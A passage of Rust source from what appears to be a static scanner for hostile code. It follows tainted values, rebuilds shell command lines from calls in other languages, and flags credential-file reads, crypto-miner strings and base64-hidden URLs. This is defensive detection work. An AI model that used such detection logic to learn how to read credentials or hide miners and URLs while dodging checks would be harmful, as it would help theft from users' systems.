            return true;
        }
        let last = name.rsplit('.').next().unwrap_or(name);
        if !(matches!(name, "[" | "{" | "")
            || CARRYING_CALLS.contains(&last)
            || CARRYING_CALLS.contains(&name))
        {
            return false;
        }
        position = bracket;
    }
    true
}

/// Removes from `range` the parts that are headers or authentication (`headers=…`,
/// `auth=…`, `headers: {…}`): a token in an `Authorization` header is how an API is called.
fn without_headers(
    lexed: &code::Lexed,
    range: std::ops::Range<usize>,
) -> Vec<std::ops::Range<usize>> {
    static HEADERS: LazyLock<Regex> = LazyLock::new(|| {
        pattern(
            r#"(?i)\b(?:headers|auth|authorization|cookies|proxies|verify|cert)\s*[=:]|["'](?:authorization|x-api-key|api-key|x-auth-token|cookie)["']\s*:"#,
        )
    });
    let mut kept = Vec::new();
    let mut from = range.start;
    let Some(text) = lexed.code.get(range.clone()) else {
        return kept;
    };
    for found in HEADERS.find_iter(text) {
        let start = range.start + found.start();
        if start < from
            || lexed.inside_literal(start).is_some() && !found.as_str().starts_with(['"', '\''])
        {
            continue;
        }
        kept.push(from..start);
        // The value runs to the next comma outside brackets and literals.
        let mut depth = 0usize;
        let stop = lexed.walk(range.start + found.end(), range.end, |_, byte| {
            match byte {
                b'(' | b'[' | b'{' => depth += 1,
                b')' | b']' | b'}' if depth == 0 => return true,
                b')' | b']' | b'}' => depth -= 1,
                b',' => return depth == 0,
                _ => {}
            }
            false
        });
        from = stop.unwrap_or(range.end).min(range.end);
    }
    kept.push(from..range.end);
    kept
}

/// Where a file reads values with an origin (a secret variable, the environment, a
/// credential file, a download, a decoder), found in one pass each, so that asking about
/// any range is a binary search.
#[derive(Debug, Default)]
struct Sources {
    /// (start, end, origin), by start.
    marks: Vec<(usize, usize, Origin)>,
}

impl Sources {
    fn push(&mut self, range: std::ops::Range<usize>, origin: Origin) {
        self.marks.push((range.start, range.end, origin));
    }

    fn sort(&mut self) {
        self.marks.sort_by_key(|mark| mark.0);
    }

    /// The origins read inside `range`.
    fn within(&self, lexed: &code::Lexed, range: std::ops::Range<usize>) -> Vec<Origin> {
        let from = self.marks.partition_point(|mark| mark.0 < range.start);
        let mut found: Vec<Origin> = Vec::new();
        for (start, end, origin) in self.marks[from..]
            .iter()
            .take_while(|mark| mark.0 < range.end)
        {
            if *end <= range.end
                && !found.contains(origin)
                && (is_data(origin) || carried(lexed, *start, range.start))
            {
                found.push(origin.clone());
            }
        }
        found
    }
}

/// A place where names take a value: `x = …`, `x[k] = …`, `x.append(…)`, `for a, b in …`.
struct Binding {
    names: Vec<String>,
    value: std::ops::Range<usize>,
    at: usize,
    /// A plain `x = …`, whose value is what `x` holds (for a command line named by `x`).
    plain: bool,
}

/// Patterns of the places a language binds names, besides plain assignments.
struct Binders<'a> {
    /// `name[…] = value`: group 1 the name.
    subscript: &'a Regex,
    /// `name.append(value)`: group 1 the name, the match ending at the `(`.
    mutate: &'a Regex,
    /// `for names in value` / `for (const names of value)`: group 1 the names.
    for_loop: &'a Regex,
}

/// Every binding of `lexed`, in the order of the text.
fn bindings(
    lexed: &code::Lexed,
    assignment: &Regex,
    binders: &Binders<'_>,
    for_parenthesised: bool,
) -> Vec<Binding> {
    let code_text = lexed.code.as_str();
    let mut found = Vec::new();
    for matched in assignment.find_iter(code_text) {
        let name = assigned_name(matched.as_str());
        if name.is_empty() || lexed.inside_literal(matched.start()).is_some() {
            continue;
        }
        let start = matched.end() - 1;
        found.push(Binding {
            names: vec![name.to_owned()],
            value: start..lexed.statement_end(start),
            at: matched.start(),
            plain: true,
        });
    }
    let cheap = |needle: &str| code_text.contains(needle);
    if cheap("]") {
        for captures in binders.subscript.captures_iter(code_text) {
            if let (Some(whole), Some(name)) = (captures.get(0), captures.get(1))
                && lexed.inside_literal(whole.start()).is_none()
            {
                let start = whole.end() - 1;
                found.push(Binding {
                    names: vec![name.as_str().to_owned()],
                    value: start..lexed.statement_end(start),
                    at: whole.start(),
                    plain: false,
                });
            }
        }
    }
    for captures in binders.mutate.captures_iter(code_text) {
        if let (Some(whole), Some(name)) = (captures.get(0), captures.get(1))
            && lexed.inside_literal(whole.start()).is_none()
        {
            found.push(Binding {
                names: vec![name.as_str().to_owned()],
                value: lexed.call_span(whole.end() - 1),
                at: whole.start(),
                plain: false,
            });
        }
    }
    if cheap("for") {
        for captures in binders.for_loop.captures_iter(code_text) {
            if let (Some(whole), Some(targets)) = (captures.get(0), captures.get(1)) {
                if lexed.inside_literal(whole.start()).is_some() {
                    continue;
                }
                let value = if for_parenthesised {
                    let open = code_text[..whole.end()].rfind('(').unwrap_or(whole.start());
                    whole.end()..lexed.call_span(open).end
                } else {
                    whole.end()..lexed.statement_end(whole.end())
                };
                let names = IDENTIFIER
                    .find_iter(targets.as_str())
                    .map(|name| name.as_str().to_owned())
                    .filter(|name| !matches!(name.as_str(), "const" | "let" | "var"))
                    .collect();
                found.push(Binding {
                    names,
                    value,
                    at: whole.start(),
                    plain: false,
                });
            }
        }
    }
    found.sort_by_key(|binding| binding.at);
    found
}

/// Names and where their values came from, following `bindings` in order; and the value
/// each plainly assigned name was given last.
fn follow(
    lexed: &code::Lexed,
    bindings: &[Binding],
    sources: &Sources,
    encoder: &Regex,
) -> (Taint, HashMap<String, std::ops::Range<usize>>) {
    let mut taint = Taint::default();
    let mut assigned = HashMap::new();
    for binding in bindings {
        let mut origins = taint.origins_in(lexed, binding.value.clone());
        origins.extend(sources.within(lexed, binding.value.clone()));
        if lexed
            .code
            .get(binding.value.clone())
            .is_some_and(|value| encoder.is_match(value))
        {
            origins = origins.into_iter().map(encoded).collect();
        }
        for name in &binding.names {
            if binding.plain {
                assigned.insert(name.clone(), binding.value.clone());
            }
            taint.add(name, origins.clone());
        }
    }
    (taint, assigned)
}

/// An assignment's name, from the text its pattern matched (`  name: T = `).
fn assigned_name(matched: &str) -> &str {
    let trimmed = matched.trim_start();
    let trimmed = trimmed
        .strip_prefix("const ")
        .or_else(|| trimmed.strip_prefix("let "))
        .or_else(|| trimmed.strip_prefix("var "))
        .unwrap_or(trimmed)
        .trim_start();
    let end = trimmed
        .find(|c: char| !(c == '_' || c == '$' || c.is_ascii_alphanumeric()))
        .unwrap_or(trimmed.len());
    &trimmed[..end]
}

/// The hosts of the literals in `range`, else of the whole file.
fn hosts_near(lexed: &code::Lexed, range: std::ops::Range<usize>, all: &[String]) -> Vec<String> {
    let mut found = Vec::new();
    for literal in lexed.literals_in(range) {
        for host in hosts::hosts(lexed.text(literal)) {
            hosts::push_host(&mut found, &host);
        }
    }
    if found.is_empty() {
        all.to_vec()
    } else {
        found
    }
}

/// Runs `text`, a command line read out of another language's string, as shell, with the
/// calling file's tainted names.
fn shell_with(text: &str, anchor: (usize, usize), taint: &Taint, out: &mut Examined, depth: u8) {
    if depth > MAX_DEPTH {
        return;
    }
    let mut scope = ShellScope {
        anchor: Some(anchor),
        depth: depth + 1,
        taint: taint.for_shell(),
        downloaded: Vec::new(),
    };
    shell_text(text, 0, &mut scope, out);
}

/// Quotes `word` for a shell, keeping `${name}` interpolations visible to [`shell::variables`].
fn shell_quote(word: &str) -> String {
    if !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,${}".contains(c))
    {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// Turns `{name}` (a Python f-string's, a template literal's `${name}`) into `${name}`.
fn interpolations_as_variables(text: &str) -> String {
    static BRACES: LazyLock<Regex> =
        LazyLock::new(|| pattern(r"\$?\{\s*([A-Za-z_][A-Za-z0-9_.]*)[^}]*\}"));
    BRACES.replace_all(text, "$${$1}").into_owned()
}

/// The call names whose first argument is a command (`subprocess.run`), with their spans:
/// the command line they run, as shell text.
fn command_line(
    lexed: &code::Lexed,
    span: std::ops::Range<usize>,
    assigned: &HashMap<String, std::ops::Range<usize>>,
) -> Option<String> {
    let text = lexed.code.get(span.clone())?;
    let trimmed_start = span.start + (text.len() - text.trim_start().len());
    // The first argument: up to a comma outside brackets and literals.
    let first_end = {
        let mut depth = 0usize;
        lexed
            .walk(trimmed_start, span.end, |_, byte| {
                match byte {
                    b'(' | b'[' | b'{' => depth += 1,
                    b')' | b']' | b'}' => depth = depth.saturating_sub(1),
                    b',' => return depth == 0,
                    _ => {}
                }
                false
            })
            .unwrap_or(span.end)
    };
    let first = lexed.code.get(trimmed_start..first_end)?.trim();
    if first.is_empty() {
        return None;
    }
    // A name: what it was assigned.
    if first.chars().all(|c| c == '_' || c.is_ascii_alphanumeric()) {
        let range = assigned.get(first)?;
        return command_line(lexed, range.clone(), &HashMap::new());
    }
    let is_list = first.starts_with('[') || first.starts_with('(');
    let mut parts = Vec::new();
    let mut index = trimmed_start;
    let literals = lexed.literals_in(trimmed_start..first_end);
    let mut literal_iter = literals.iter().peekable();
    while index < first_end {
        if let Some(literal) = literal_iter
            .peek()
            .filter(|l| l.range.start <= index + 3 && l.range.start >= index)
        {
            let content = interpolations_as_variables(lexed.text(literal));
            parts.push(if is_list {
                shell_quote(&content)
            } else {
                content
            });
            index = literal.range.end + 1;
            literal_iter.next();
            continue;
        }
        let rest = &lexed.code[index..first_end];
        if let Some(identifier) = IDENTIFIER.find(rest).filter(|m| m.start() == 0) {
            let name = identifier.as_str();
            let after = &rest[identifier.end()..];
            if name == "sys" && after.starts_with(".executable") {
                parts.push("python3".to_owned());
                index += identifier.end() + ".executable".len();
                continue;
            }
            if !matches!(
                name,
                "f" | "r" | "b" | "rb" | "br" | "fr" | "rf" | "u" | "F" | "R" | "B"
            ) || !after.starts_with(['"', '\''])
            {
                parts.push(format!("\"${{{name}}}\""));
            }
            index += identifier.end();
            continue;
        }
        index += rest.chars().next().map_or(1, char::len_utf8);
    }
    let joined = if is_list {
        parts.join(" ")
    } else {
        parts.concat()
    };
    (!joined.trim().is_empty()).then_some(joined)
}

// ---------------------------------------------------------------------------------------
// Languages without their own reader.

/// Ruby, Perl and the like: commands in their strings are read as shell; credential paths,
/// miners and hidden URLs in any string count.
fn generic(text: &str, base: usize, anchor: Option<(usize, usize)>, out: &mut Examined, depth: u8) {
    let lexed = code::lex(text, Lang::Generic);
    for literal in &lexed.literals {
        let content = lexed.text(literal);
        let at = place(anchor, base + literal.range.start, content.len());
        if content.contains(' ')
            && content.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/')
        {
            examine_into(
                content,
                Lang::Shell,
                base + literal.range.start,
                Some(at),
                out,
                depth + 1,
            );
        }
        literal_rules(content, at, out);
        let line_start = lexed.code[..literal.range.start]
            .rfind('\n')
            .map_or(0, |i| i + 1);
        let line = &lexed.code[line_start..literal.range.start];
        if let Some((label, true)) = credential(content)
            && ["read", "open", "File", "load", "copy", "cat", "IO."]
                .iter()
                .any(|call| line.contains(call))
        {
            out.add(Behaviour::CredentialRead, at, format!("reads {label}"));
        }
    }
    if let Some(found) = hosts::hosts(&lexed.code).into_iter().next() {
        out.network = true;
        out.note_hosts([found]);
    }
}

/// Rules that hold for a string literal in any language: mining pools and hidden URLs.
fn literal_rules(content: &str, at: (usize, usize), out: &mut Examined) {
    if let Some(found) = MINING_TEXT.find(content) {
        out.add(
            Behaviour::CryptoMiner,
            at,
            format!("names a mining pool or miner ({})", found.as_str()),
        );
    }
    if let Some(url) = encoded_url(content) {
        out.add(
            Behaviour::EncodedUrl,
            at,
            format!("hides a URL in base64: {url}"),
        );
    }
}

#[cfg(test)]
mod tests;
